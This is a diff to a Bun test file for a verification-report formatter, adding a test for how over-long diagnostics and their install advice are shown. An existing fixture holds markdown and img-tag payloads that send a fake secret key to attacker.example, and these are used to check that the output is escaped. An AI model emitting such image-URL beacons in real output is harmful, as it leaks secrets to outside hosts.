@@ -5,7 +5,8 @@
  * the sandbox is inert".
  */
 import { expect, test } from 'bun:test';
-import { formatVerifyMarkdown } from '../../../src/gates/verify-report.ts';
+import { formatVerifyMarkdown, formatVerifyTable } from '../../../src/gates/verify-report.ts';
+import { missingPythonModuleNote } from '../../../src/gates/missing-program.ts';
 import type { VerifyReport } from '../../../src/gates/verify-run.ts';
 
 const PRINTED = 'FAIL ![x](https://attacker.example/?d=sk-live-1) | <img src=https://attacker.example/i> \u001b[2J\n```\n![y](https://attacker.example/z)\n````';
@@ -33,4 +34,20 @@ test('a diagnostic is one code span in its cell, the output one fenced block, es
   const block = /\n(`{5,})text\n([\s\S]*?)\n\1\n/.exec(md);
   expect(block?.[2]).toBe(PRINTED.replace('\u001b', '<U+001B>'));
   expect(md).not.toContain('\u001b');
+});
+
+test("a diagnostic longer than the table's cell is given whole below it: its end is the advice (what to install, where)", () => {
+  const advice = missingPythonModuleNote('pytest');
+  const long: VerifyReport = { ...report, notes: [], commands: [], hard: [{ id: 'tests', state: 'fail', durationMs: 5, diagnostic: advice, cmd: 'python -m pytest' } as VerifyReport['hard'][number]] };
+  const table = formatVerifyTable(long, 80);
+  const row = table.find((l) => l.startsWith('hard'))!;
+  expect(row.endsWith('…')).toBe(true);
+  expect(table).toContain(`  hard tests: ${advice}`);
+  const md = formatVerifyMarkdown(long);
+  expect(md).toContain('## Diagnostics the tables cut, whole');
+  expect(md).toContain('`peers doctor` lists what the image lacks');
+  // A diagnostic that fits is said once.
+  const short: VerifyReport = { ...long, hard: [{ ...long.hard[0]!, diagnostic: 'exit 1' }] };
+  expect(formatVerifyTable(short, 80).join('\n')).not.toContain('Diagnostics the table cuts');
+  expect(formatVerifyMarkdown(short)).not.toContain('Diagnostics the tables cut');
 });
